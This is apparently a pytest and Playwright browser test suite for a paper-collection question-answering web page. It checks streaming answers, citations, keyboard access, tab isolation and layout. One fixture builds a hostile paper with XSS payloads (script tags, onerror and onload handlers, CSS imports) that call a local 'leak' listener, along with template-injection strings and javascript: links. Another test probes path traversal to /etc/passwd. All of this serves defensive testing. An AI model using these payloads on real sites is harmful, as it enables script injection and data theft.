"""The page in a real browser, over a real server, a real collection and papers written here."""

import json
import re
import socket
import threading
from collections.abc import Iterator, Sequence
from contextlib import closing
from typing import Any

import pytest
from playwright.sync_api import Browser, Locator, Page, expect

from assistant import Assistant
from assistant.answering import Answering
from assistant.types import Delta, Event, Finished, Turn
from tests.ui_browser import opened
from tests.ui_server import served
from ui import chat

_LORA = (
    "Adapters run after each layer and slow training down. Partial connection tuning trains a"
    " random selection of connections inside the pretrained weights. Against low-rank adapters its"
    " training time falls by 22 percent and its memory by 16 percent."
)
_PAPERS = (
    ("PaCo: Partial Connection Tuning for Efficient Language Models", _LORA),
    (
        "Sharing Low-Rank Adapters between Layers",
        "Low-rank adapters are shared between the layers of a network. Memory of the adapters falls"
        " by half, and training time stays as it was.",
    ),
    (
        "Early Learning from Noisy Labels",
        "Networks trained on noisy labels first fit the clean examples and later memorize the false"
        " labels. A regularizer that remembers the early predictions keeps them from memorizing.",
    ),
    (
        "Triplet Mining for Face Embeddings",
        "A face embedding is trained on triplets of matching and non-matching faces. Semi-hard"
        " triplets are mined online from large batches.",
    ),
    (
        "Whistles of River Dolphins",
        "River dolphins whistle at higher pitch in turbid water. Recordings from nine rivers show"
        " it.",
    ),
)
_ASK_LORA = "How much training time does partial connection tuning save?"
_ASK_NOISE = "How do networks learn from noisy labels?"
_OFF_TOPIC = "Who won the 1998 football world cup in Paris?"


class _Watched(Assistant):
    """The real assistant, which can be held between two events of a stream."""

    def __init__(self, *args: Any, **kwargs: Any) -> None:
        super().__init__(*args, **kwargs)
        self.held: threading.Semaphore | None = None
        self.asked: list[tuple[str, list[Turn]]] = []
        self.ended = threading.Event()

    def stream(
        self, question: str, history: Sequence[Turn] = (), *args: Any, **kwargs: Any
    ) -> Answering:
        self.asked.append((question, list(history)))
        self.ended.clear()
        return _Held(self, super().stream(question, history, *args, **kwargs))


class _Held(Answering):
    def __init__(self, by: _Watched, events: Answering) -> None:
        self._by, self._events = by, events

    def __next__(self) -> Event:
        event = next(self._events)
        if self._by.held and isinstance(event, Delta | Finished):
            assert self._by.held.acquire(timeout=20)
        return event

    def close(self) -> None:
        self._events.close()
        self._by.ended.set()


@pytest.fixture(scope="module")
def listener() -> Iterator[tuple[str, list[str]]]:
    """A server that nobody should reach: its address, and who did."""
    reached: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def accept() -> None:
            while True:
                try:
                    connection, peer = server.accept()
                except OSError:
                    return
                reached.append(str(peer))
                connection.close()

        threading.Thread(target=accept, daemon=True).start()
        yield f"http://127.0.0.1:{server.getsockname()[1]}", reached
        server.shutdown(socket.SHUT_RDWR)


@pytest.fixture(scope="module")
def assistant(
    tmp_path_factory: pytest.TempPathFactory, listener: tuple[str, list[str]]
) -> Iterator[_Watched]:
    folder = tmp_path_factory.mktemp("page")
    records = [
        {"title": title, "abstract": abstract, "listed": [f"Mar 1{number}"]}
        for number, (title, abstract) in enumerate(_PAPERS)
    ]
    source = folder / "papers.jsonl"
    source.write_text("\n".join(map(json.dumps, [*records, _hostile_paper(listener[0])])))
    with _Watched(folder / "home") as assistant:
        assert assistant.ingest(source).added == len(_PAPERS) + 1
        yield assistant


def _hostile_paper(elsewhere: str) -> dict[str, object]:
    leak, template = f"{elsewhere}/?leak", "{{1009*1013}} ${1009*1013}"
    attack = (
        f"<script>fetch('{leak}')</script> <img src='{leak}' onerror=\"fetch('{leak}')\">"
        f" \"><svg onload=\"fetch('{leak}')\"> ![x]({leak}) <style>@import '{leak}'</style>"
        f" <iframe src='{leak}'></iframe> <link rel=stylesheet href='{leak}'>"
    )
    return {
        "title": f"Zebra stripes {attack}",
        "abstract": f"Zebra stripes confuse flies {attack}. Zebra stripes vary {template}.",
        "url": "javascript:document.title='owned'",
        "links": ["javascript:alert(1)", f"{elsewhere}/paper"],
    }


@pytest.fixture(scope="module")
def address(assistant: _Watched) -> Iterator[str]:
    with served(assistant) as address:
        yield address


@pytest.fixture
def held(assistant: _Watched, monkeypatch: pytest.MonkeyPatch) -> Iterator[threading.Semaphore]:
    """Holds every piece of text until it is released, and has each shown by itself."""
    monkeypatch.setattr(chat, "PAINT_EVERY_S", 0)
    assistant.held = threading.Semaphore(0)
    yield assistant.held
    assistant.held.release(100)
    assistant.held = None


@pytest.fixture
def page(browser: Browser, address: str) -> Iterator[Page]:
    with opened(browser, address) as page:
        yield page


def _box(page: Page) -> Locator:
    return page.get_by_label("Question")


def _ask(page: Page, question: str, *, mode: str = "Answer") -> Locator:
    """Ask with the keyboard; gives the new exchange once it is finished."""
    if mode != "Answer":
        page.get_by_role("radio", name=mode, exact=True).check(force=True)
    before = page.locator(".turn").count()
    _box(page).fill(question)
    _box(page).press("Enter")
    expect(page.locator(".turn")).to_have_count(before + 1)
    turn = page.locator(".turn").last
    expect(turn).to_have_attribute("aria-busy", "false")
    return turn


def test_the_first_screen_names_the_collection_and_offers_questions(page: Page) -> None:
    assert page.title() == "Paper Assistant"
    expect(page.locator(".chips")).to_have_text("470 papers · Mar 10–14Extractive · offline")
    expect(page.get_by_role("heading", name="Ask the collection")).to_be_visible()
    expect(_box(page)).to_be_focused()
    expect(page.locator("#pa-stop")).to_be_hidden()
    expect(page.locator("footer")).to_be_hidden()


def test_the_page_says_how_far_the_vectors_are_until_all_are_made(
    browser: Browser, address: str, assistant: _Watched, monkeypatch: pytest.MonkeyPatch
) -> None:
    n_papers = assistant.count()
    n_encoded = [1]
    monkeypatch.setattr(assistant, "encoded", lambda: (n_encoded[0], n_papers))
    with opened(browser, address) as page:
        for n in (1, 2):
            n_encoded[0] = n
            line = f"Searching by words; vectors for {n} of {n_papers} papers are ready"
            expect(page.locator("#pa-about")).to_contain_text(line, timeout=30_000)
        n_encoded[0] = n_papers
        expect(page.locator("#pa-about")).not_to_contain_text("vectors", timeout=30_000)


def test_an_example_is_asked_by_a_click(page: Page) -> None:
    example = page.locator(".example:visible").first
    question = example.inner_text()
    example.click()
    expect(page.locator(".turn .q")).to_have_text(question)
    expect(page.locator(".turn")).to_have_attribute("aria-busy", "false")
    expect(page.locator("#pa-hello")).to_be_hidden()


def test_an_answer_streams_in_without_moving_what_is_there(
    page: Page, held: threading.Semaphore
) -> None:
    _box(page).fill(_ASK_LORA)
    _box(page).press("Enter")
    turn = page.locator(".turn")
    expect(turn).to_contain_text("Reading 8 near papers …")
    expect(turn.locator(".q")).to_have_text(_ASK_LORA)
    expect(_box(page)).to_have_value("")
    heading = turn.locator(".q").element_handle()
    assert heading
    place = heading.bounding_box()
    held.release()
    expect(turn.locator(".a")).to_contain_text("Against low-rank adapters")
    expect(turn).to_have_attribute("aria-busy", "true")
    expect(turn.locator("span.c").first).to_have_text("1")
    begun = turn.locator(".a").inner_text()
    first = turn.locator(".a > :first-child").element_handle()
    held.release(100)
    expect(turn).to_have_attribute("aria-busy", "false")
    expect(turn.locator("a.c").first).to_have_text("1")
    assert turn.locator(".a").inner_text().startswith(begun.rstrip())
    assert heading.bounding_box() == place
    assert first
    assert first.evaluate("node => node.isConnected")


def test_a_citation_opens_the_quoted_sentence_and_leads_back(page: Page) -> None:
    turn = _ask(page, _ASK_LORA)
    expect(page.locator("#pa-papers h2:visible")).to_contain_text("Evidence · ")
    mark = turn.locator("a.c").first
    quote = mark.get_attribute("data-quote") or ""
    assert quote in _LORA
    mark.click()
    quoted = page.locator("#pa-papers mark.on")
    expect(quoted).to_have_text(quote)
    expect(quoted).to_be_in_viewport()
    expect(mark).to_have_attribute("aria-current", "true")
    card = page.locator(".card.on")
    expect(card).to_have_count(1)
    expect(card).to_contain_text("PaCo: Partial Connection Tuning")
    expect(card).to_contain_text("Listed Mar 10")
    expect(card.locator(".sup")).to_contain_text("support")
    back = page.locator("#pa-papers a.back:focus")
    expect(back).to_have_count(1)
    back.press("Enter")
    expect(mark).to_be_focused()


def test_a_mark_shows_its_quote_to_the_pointer_and_to_the_keyboard(page: Page) -> None:
    mark = _ask(page, _ASK_LORA).locator("a.c").first
    quote = mark.get_attribute("data-quote") or ""
    tip = page.get_by_role("tooltip")
    mark.hover()
    expect(tip).to_have_text(quote)
    expect(tip).to_be_in_viewport(ratio=1)
    page.mouse.move(0, 0)
    expect(tip).to_be_hidden()
    mark.focus()
    expect(tip).to_have_text(quote)
    expect(mark).to_have_attribute("aria-describedby", "pa-tip")
    page.keyboard.press("Escape")
    expect(tip).to_be_hidden()


def test_the_keyboard_alone_asks_reads_and_comes_back(page: Page) -> None:
    page.keyboard.type(_ASK_LORA)
    page.keyboard.press("Enter")
    expect(page.locator(".turn")).to_have_attribute("aria-busy", "false")
    focused = page.locator("a.c:focus")
    for _ in range(20):
        page.keyboard.press("Shift+Tab")
        if focused.count():
            break
    expect(focused).to_have_attribute("href", re.compile(r"^#e1-\d$"))
    outline = focused.evaluate("node => getComputedStyle(node).outlineStyle")
    assert outline == "solid"
    page.keyboard.press("Enter")
    expect(page.locator("mark.on")).to_be_in_viewport()
    page.keyboard.press("Enter")
    expect(page.locator('.turn a.c[aria-current="true"]').first).to_be_focused()


def test_a_refusal_shows_the_nearest_papers_and_no_highlight(page: Page) -> None:
    turn = _ask(page, _OFF_TOPIC)
    expect(turn).to_contain_text("The collection does not answer this.")
    expect(turn).to_contain_text("near papers answer · abstracts only")
    expect(page.locator("#pa-papers h2:visible")).to_contain_text("Nearest · ")
    assert page.locator("#pa-papers .card:visible").count() >= 1
    expect(page.locator("#pa-papers mark")).to_have_count(0)


def test_a_topic_is_summarized_and_papers_are_found(page: Page) -> None:
    turn = _ask(page, "low-rank adapters", mode="Summarize")
    expect(turn.locator("li strong").first).to_be_visible()
    assert turn.locator("a.c").count() >= 2
    turn = _ask(page, "face embedding", mode="Find")
    turn.get_by_role("link", name="Triplet Mining for Face Embeddings").click()
    expect(page.locator(".card:focus h3")).to_have_text("Triplet Mining for Face Embeddings")


def test_each_question_is_brought_to_the_top_and_the_columns_scroll_by_themselves(
    page: Page,
) -> None:
    height = page.viewport_size["height"] if page.viewport_size else 0
    for question, mode in ((_ASK_LORA, "Answer"), ("low-rank adapters", "Find"), ("labels", "")):
        turn = _ask(page, question, mode=mode or "Find")
        place = turn.bounding_box()
        assert place
        assert place["y"] < 120
        assert page.evaluate("document.documentElement.scrollHeight") <= height
    assert page.evaluate("document.getElementById('pa-papers').scrollTop") == 0
    assert page.evaluate("window.scrollY") == 0


def test_an_earlier_answer_opens_its_own_papers_again(page: Page) -> None:
    _ask(page, _ASK_LORA)
    _ask(page, _ASK_NOISE)
    expect(page.locator(".card:visible").first).to_contain_text("Noisy Labels")
    page.locator(".turn").first.locator("a.c").first.click()
    expect(page.locator(".card.on:visible")).to_contain_text("PaCo")
    expect(page.locator(".papers:visible")).to_have_count(1)


def test_two_tabs_never_mix(browser: Browser, address: str, assistant: _Watched) -> None:
    with opened(browser, address) as one, opened(browser, address) as two:
        _ask(one, _ASK_LORA)
        _ask(two, _ASK_NOISE)
        _ask(one, "And how much memory does it save?")
        _, history = assistant.asked[-1]
        assert [turn["content"] for turn in history if turn["role"] == "user"] == [_ASK_LORA]
        _ask(two, "Which regularizer helps it?")
        _, history = assistant.asked[-1]
        assert [turn["content"] for turn in history if turn["role"] == "user"] == [_ASK_NOISE]
        assert _ASK_NOISE not in one.locator("body").inner_text()
        assert _ASK_LORA not in two.locator("body").inner_text()


def test_two_tabs_of_one_browser_never_mix(page: Page, address: str, assistant: _Watched) -> None:
    _ask(page, _ASK_LORA)
    other = page.context.new_page()
    other.goto(address)
    expect(other.locator(".example:visible").first).to_be_visible()
    _ask(other, _ASK_NOISE)
    assert assistant.asked[-1] == (_ASK_NOISE, [])
    expect(other.locator(".turn")).to_have_count(1)


def test_a_new_chat_forgets_the_old_one(page: Page, assistant: _Watched) -> None:
    _ask(page, _ASK_LORA)
    page.get_by_role("button", name="New chat").click()
    expect(page.locator(".turn")).to_have_count(0)
    expect(page.locator("#pa-hello")).to_be_visible()
    expect(page.locator(".card")).to_have_count(0)
    _ask(page, _ASK_NOISE)
    assert assistant.asked[-1] == (_ASK_NOISE, [])


def test_stop_ends_the_answer_here_and_upstream(
    page: Page, held: threading.Semaphore, assistant: _Watched
) -> None:
    _box(page).fill(_ASK_LORA)
    _box(page).press("Enter")
    turn = page.locator(".turn")
    held.release()
    expect(turn.locator(".a")).to_contain_text("Against low-rank adapters")
    page.get_by_role("button", name="Stop").click()
    expect(turn).to_contain_text("Stopped.")
    expect(turn).to_have_attribute("aria-busy", "false")
    expect(page.locator("#pa-stop")).to_be_hidden()
    held.release()
    assert assistant.ended.wait(20)
    held.release(100)
    _ask(page, _ASK_NOISE)
    expect(turn.first).to_contain_text("Stopped.")
    expect(turn).to_have_count(2)


def test_an_empty_question_is_answered_with_a_hint_only(page: Page, assistant: _Watched) -> None:
    n_asked = len(assistant.asked)
    _box(page).fill("  ")
    page.get_by_role("button", name="Ask", exact=True).click()
    expect(page.locator("#pa-hint")).to_have_text("Type a question first.")
    expect(page.locator(".turn")).to_have_count(0)
    assert len(assistant.asked) == n_asked
    _ask(page, _ASK_LORA)
    expect(page.locator("#pa-hint")).to_contain_text("Enter to ask")


def test_a_question_that_is_too_long_says_so_and_the_page_goes_on(page: Page) -> None:
    turn = _ask(page, "why " * 20_000)
    expect(turn.get_by_role("alert")).to_contain_text("characters")
    expect(_box(page)).to_have_value(re.compile("^why why"))
    expect(_ask(page, _ASK_LORA).locator("a.c").first).to_be_visible()


def test_a_hostile_paper_is_inert_and_reaches_nobody(
    page: Page, listener: tuple[str, list[str]]
) -> None:
    _ask(page, "Do zebra stripes confuse flies?").locator("a.c").first.click()
    _ask(page, "zebra stripes", mode="Summarize")
    _ask(page, "zebra stripes", mode="Find").locator("li a").first.click()
    page.get_by_role("radio", name="Answer", exact=True).check(force=True)
    _ask(page, f"<img src='{listener[0]}/?asked' onerror=alert(1)> {_OFF_TOPIC}")
    inside = page.locator("#pa-turns, #pa-papers")
    assert inside.locator("script, img, svg, style, iframe, link").count() == 0
    assert "onload" in inside.last.inner_text()
    expect(page.locator("#pa-papers")).to_contain_text("{{1009*1013}} ${1009*1013}")
    expect(page.locator("#pa-papers")).not_to_contain_text("1022117")
    hrefs = inside.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
    outward = {href for href in hrefs if not href.startswith("#")}
    assert f"{listener[0]}/paper" in outward
    assert {href.partition(":")[0] for href in outward} <= {"http", "https"}
    assert page.title() == "Paper Assistant"
    assert listener[1] == []


def test_the_browser_itself_refuses_to_reach_elsewhere(
    browser: Browser, address: str, listener: tuple[str, list[str]]
) -> None:
    with closing(browser.new_page()) as page:
        page.goto(address)
        refused = page.evaluate(
            "url => fetch(url, {mode: 'no-cors'}).then(() => 'sent', () => 'refused')", listener[0]
        )
    assert refused == "refused"
    assert listener[1] == []


@pytest.mark.parametrize("width", [320, 390, 860])
def test_a_phone_scrolls_in_one_direction_only(browser: Browser, address: str, width: int) -> None:
    with opened(browser, address, viewport={"width": width, "height": 844}) as page:
        _assert_fits(page, width)
        turn = _ask(page, _ASK_LORA)
        _assert_fits(page, width)
        answer, papers = turn.bounding_box(), page.locator(".card").first.bounding_box()
        assert answer
        assert papers
        assert papers["y"] > answer["y"] + answer["height"] - 1
        turn.locator("a.c").first.click()
        expect(page.locator("mark.on")).to_be_in_viewport()
        _ask(page, _OFF_TOPIC)
        _assert_fits(page, width)


def _assert_fits(page: Page, width: int) -> None:
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    chips, new = page.locator(".chips").bounding_box(), page.locator("#pa-new").bounding_box()
    assert chips
    assert new
    assert chips["x"] + chips["width"] <= new["x"]
    assert new["x"] + new["width"] <= width


@pytest.mark.parametrize(
    ("scheme", "paper"), [("light", "rgb(251, 250, 247)"), ("dark", "rgb(22, 24, 27)")]
)
def test_the_page_follows_the_system_light_or_dark(
    browser: Browser, address: str, scheme: Any, paper: str
) -> None:
    with opened(browser, address, color_scheme=scheme) as page:
        expect(page.locator(".gradio-container")).to_have_css("background-color", paper)
        expect(page.locator("body")).to_have_css("background-color", paper)


def test_what_changes_is_announced_and_every_part_has_a_name(page: Page) -> None:
    _ask(page, _ASK_LORA)
    expect(page.locator('#pa-now [aria-live="polite"] .turn')).to_have_count(1)
    expect(page.get_by_role("complementary", name="Evidence")).to_be_visible()
    expect(page.get_by_role("textbox", name="Question")).to_be_visible()
    expect(page.get_by_role("heading", level=1)).to_have_text("Paper Assistant")
    mark = page.get_by_role("link", name=re.compile("^Citation 1: PaCo"))
    expect(mark.first).to_be_visible()


def test_the_server_offers_no_endpoint_and_no_file(page: Page, address: str) -> None:
    assert page.request.get(f"{address}gradio_api/info").json() == {
        "named_endpoints": {},
        "unnamed_endpoints": {},
    }
    for path in ("/etc/passwd", "pyproject.toml", "../../etc/passwd", "%2e%2e/%2e%2e/etc/passwd"):
        assert page.request.get(f"{address}gradio_api/file={path}").status in (403, 404)
